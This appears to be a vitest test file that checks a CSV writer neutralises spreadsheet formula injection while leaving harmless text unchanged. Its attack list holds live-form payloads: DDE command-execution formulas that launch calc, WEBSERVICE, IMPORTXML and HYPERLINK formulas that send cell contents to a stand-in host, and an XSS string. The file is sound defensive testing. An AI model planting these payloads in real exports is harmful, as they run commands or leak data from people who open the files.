import Papa from 'papaparse';
import { describe, expect, test } from 'vitest';
import { figureCsv, guardFormula, writeCsv } from '../../src/charts/csv';

/** Text a spreadsheet would calculate, or run. */
const attacks = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://x.invalid/?"&A1,"click")',
  '=IMPORTXML(CONCAT("https://x.invalid/",A1),"//a")',
  '=WEBSERVICE("https://x.invalid/"&A1)',
  '=DDE("cmd";"/C calc";"x")',
  '=SUM(A1:A9)*2',
  '="a"',
  "='a'",
  '==1',
  '=',
  '+1+1',
  "+cmd|' /C calc'!A0",
  '+A1',
  '+SUM(A1)',
  '++1',
  '+',
  '-1+1',
  "-2+3+cmd|' /C calc'!A0",
  '-A1',
  '--1',
  '-',
  '-5 % or so',
  '-5e9',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '@A1',
  '@handle',
  '@',
  '\t=1+1',
  '\t1+1',
  '\t',
  '\r=1+1',
  '\rtext',
  '\n=1+1',
  '\ntext',
  '\r\n=1+1',
  '|calc',
  '|',
  '%0A=1+1',
  '%',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(A1)',
  ' =1+1',
  '   =1+1',
  ' +1+1',
  ' -1+1',
  ' @SUM(A1)',
  ' \t=1+1',
  ' \n=1+1',
  ' ＝1+1',
  '\ufeff=1+1',
  '\ufeff+A1',
  '\ufeff\ufeff=1+1',
  '\u0000=1+1',
  '\u0000\u0000@SUM(A1)',
  ' \ufeff\u0000=1+1',
  '\u00a0=1+1',
  '\u3000＝1+1',
  '\u200b=1+1',
  '=1+1"',
  '=1+1","=2+2',
  '";=1+1',
  '=1+1;=2+2',
  '-1,2,x',
  '+49 30 1234 ext 5',
  '-1\t=1+1',
  '-1\n=1+1',
  '=<img src=x onerror=alert(1)>',
].filter((attack) => !attack.startsWith('"'));

/** Text that no spreadsheet calculates, and that must arrive as it is. */
const harmless = [
  '',
  'Paid search',
  '-5 %',
  '-5%',
  '+12',
  '-1,234.50',
  '-1 234,50',
  '+49 30 1234567',
  '−5 points',
  '5=5',
  'a@b.example',
  'a|b',
  '50 %',
  "'quoted",
  '"quoted"',
  'line one\r\n=line two',
  'comma, semicolon; tab\t',
  '(not set)',
  '#N/A',
  '‑ hyphen',
];

/** What a second reader of CSV finds. */
function reread(text: string): string[][] {
  const parsed = Papa.parse<string[]>(text, { skipEmptyLines: 'greedy' });
  expect(parsed.errors).toEqual([]);
  return parsed.data;
}

test('there are many attacks', () => {
  expect(new Set(attacks).size).toBeGreaterThanOrEqual(60);
});

test.each(attacks)('%j arrives as text', (attack) => {
  const [header, row] = reread(writeCsv([attack, 'n'], [[attack, 7]]));
  expect(header).toEqual([`'${attack}`, 'n']);
  expect(row).toEqual([`'${attack}`, '7']);
});

test.each(harmless)('%j arrives as it is', (words) => {
  expect(reread(writeCsv(['a', 'b'], [[words, 'x']]))[1]).toEqual([words, 'x']);
});

describe('the text', () => {
  test('every field is quoted, lines end in CRLF, nothing is an empty field', () => {
    expect(
      writeCsv(
        ['Name', 'n'],
        [
          ['A "B"', 1],
          [null, true],
        ],
      ),
    ).toBe('"Name","n"\r\n"A ""B""","1"\r\n"","true"\r\n');
  });

  test('typed numbers are never guarded', () => {
    expect(writeCsv(['n'], [[-5], [-0.021], [-12n]])).toBe('"n"\r\n"-5"\r\n"-0.021"\r\n"-12"\r\n');
  });

  test('a mark for Excel on request', () => {
    expect(writeCsv(['n'], [], { byte_order_mark: true })).toBe('\ufeff"n"\r\n');
  });

  test('raw text on request, still quoted', () => {
    expect(writeCsv(['n'], [['=1+"1"']], { raw: true })).toBe('"n"\r\n"=1+""1"""\r\n');
  });

  test('guarding twice guards once', () => {
    expect(guardFormula(guardFormula('=1'))).toBe("'=1");
  });
});

test('a figure’s table: money in whole units, shares as parts of one, hostile labels guarded', () => {
  const csv = figureCsv({
    columns: [
      { name: 'source', label: '=Source', format: { kind: 'text' } },
      { name: 'won', label: 'Revenue won', format: { kind: 'money', currency: 'USD' } },
      { name: 'yen', label: 'Yen', format: { kind: 'money', currency: 'JPY' } },
      { name: 'plain', label: 'Amount', format: { kind: 'money', currency: 'XXX' } },
      { name: 'rate', label: 'Win rate', format: { kind: 'share' } },
      { name: 'last', label: 'Last', format: { kind: 'date' } },
    ],
    rows: [
      { source: '@here', won: 124_000_050, yen: 1200, plain: 5, rate: 0.234, last: '2026-09-30' },
      { source: null, won: -5, yen: 0, plain: null, rate: null, last: null },
    ],
  });
  expect(reread(csv)).toEqual([
    ["'=Source", 'Revenue won (USD)', 'Yen (JPY)', 'Amount', 'Win rate', 'Last'],
    ["'@here", '1240000.50', '1200', '0.05', '0.234', '2026-09-30'],
    ['', '-0.05', '0', '', '', ''],
  ]);
});

test('notes stand behind the numbers after an empty line, guarded like all text', () => {
  expect(writeCsv(['a'], [[1]], { notes: ['12 test records left out', '=1+1'] })).toBe(
    '"a"\r\n"1"\r\n\r\n"12 test records left out"\r\n"\'=1+1"\r\n',
  );
});
